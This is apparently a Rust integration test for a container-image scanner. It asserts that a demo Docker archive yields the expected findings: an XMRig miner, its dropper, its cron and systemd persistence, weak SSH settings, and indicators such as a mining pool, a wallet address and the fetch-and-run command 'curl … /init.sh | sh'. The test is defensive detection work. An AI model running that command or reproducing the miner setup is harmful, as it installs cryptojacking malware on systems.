//! The first scan a newcomer sees: the bundled demo (the README's first
//! command) finds exactly what `fixtures/images/demo/README.md` says it
//! must — the miner, what starts it, its dropper and config, the SSH door —
//! and nothing it says must not be found. (Its vulnerabilities are
//! checked in `advisories.rs` against `fixtures/advisories/README.md`.)

use crate::support::{demo_advisory_db, demo_docker_archive, run, validate};
use serde_json::Value;

fn strings(value: &Value) -> Vec<String> {
    value
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect()
}

#[test]
fn the_demo_finds_the_attack_its_readme_lists() {
    let db = demo_advisory_db();
    let archive = demo_docker_archive("first-scan.docker.tar");
    let done = run(&[
        "scan",
        "-f",
        "json",
        "--db",
        db.to_str().unwrap(),
        archive.to_str().unwrap(),
    ]);
    assert_eq!(done.code, 1, "a miner fails the gate: {}", done.stderr);
    let report: Value = serde_json::from_str(&done.stdout).unwrap();
    validate(&report);

    // Malware: (path, layer, rule, still in the final tree).
    let mut malware: Vec<(String, u64, String, bool)> = report["malware"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            (
                m["path"].as_str().unwrap().to_string(),
                m["layer"].as_u64().unwrap(),
                m["rule"].as_str().unwrap().to_string(),
                m["visible"].as_bool().unwrap(),
            )
        })
        .collect();
    malware.sort();
    let hit =
        |path: &str, rule: &str, visible: bool| (path.to_string(), 1, rule.to_string(), visible);
    assert_eq!(
        malware,
        [
            hit("/tmp/.xmr/config.json", "mining_pool_host", false),
            hit("/tmp/.xmr/config.json", "monero_wallet_address", false),
            hit("/tmp/.xmr/config.json", "xmrig_config", false),
            hit("/tmp/payload.sh", "miner_dropper_script", false),
            hit("/usr/local/bin/kworkerd", "xmrig_miner", true),
        ]
    );

    // Findings: the SSH door, and nothing else.
    let mut findings: Vec<(String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["id"].as_str().unwrap().to_string(),
                format!("{}:{}", f["path"].as_str().unwrap(), f["line"]),
            )
        })
        .collect();
    findings.sort();
    assert_eq!(
        findings,
        [
            (
                "ssh.password-authentication".to_string(),
                "/etc/ssh/sshd_config:4".to_string()
            ),
            (
                "ssh.permit-root-login".to_string(),
                "/etc/ssh/sshd_config:3".to_string()
            ),
        ]
    );

    // One incident: the miner, what starts it, where it came from.
    let incidents = report["incidents"].as_array().unwrap();
    assert_eq!(incidents.len(), 1, "{incidents:?}");
    let miner = &incidents[0];
    assert_eq!(miner["severity"], "CRITICAL");
    assert_eq!(miner["executable"], "/usr/local/bin/kworkerd");
    assert_eq!(miner["layer"], 1);
    let verdicts: Vec<&str> = miner["verdicts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["id"].as_str().unwrap())
        .collect();
    assert_eq!(verdicts, ["xmrig_miner"]);
    let starters: Vec<(String, String)> = miner["started_by"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["kind"].as_str().unwrap().to_string(),
                s["path"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(
        starters,
        [
            ("cron".to_string(), "/etc/cron.d/kworker".to_string()),
            (
                "systemd".to_string(),
                "/etc/systemd/system/kworkerd.service".to_string()
            ),
            (
                "systemd-enable".to_string(),
                "/etc/systemd/system/multi-user.target.wants/kworkerd.service".to_string()
            ),
        ]
    );
    assert!(
        miner["created_by"]
            .as_str()
            .unwrap()
            .contains("curl -fsSL http://203.0.113.7/init.sh | sh")
    );

    // Indicators: the pool, the wallet, the dropper's downloads.
    let mut iocs: Vec<(String, String)> = report["iocs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            (
                i["type"].as_str().unwrap().to_string(),
                i["value"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    iocs.sort();
    let ioc = |kind: &str, value: &str| (kind.to_string(), value.to_string());
    assert_eq!(
        iocs,
        [
            ioc("host", "203.0.113.7"),
            ioc("pool", "pool.supportxmr.com:443"),
            ioc("url", "http://203.0.113.7/init.sh"),
            ioc("url", "http://203.0.113.7/kworkerd"),
            ioc(
                "wallet",
                "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
            ),
        ]
    );

    // What must not be found: the app's launcher and the clean base.
    let flagged: Vec<&str> = report["malware"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["path"].as_str().unwrap())
        .collect();
    assert!(!flagged.contains(&"/usr/local/bin/app"));
    assert_eq!(
        strings(&report["summary"]["not_checked"]),
        Vec::<String>::new()
    );
    assert_eq!(
        report["layers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l["deleted"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        [0, 1, 5],
        "layer 1 replaces the dpkg status; layer 2 deletes the dropper, the miner's config dir and the apt cache"
    );
}
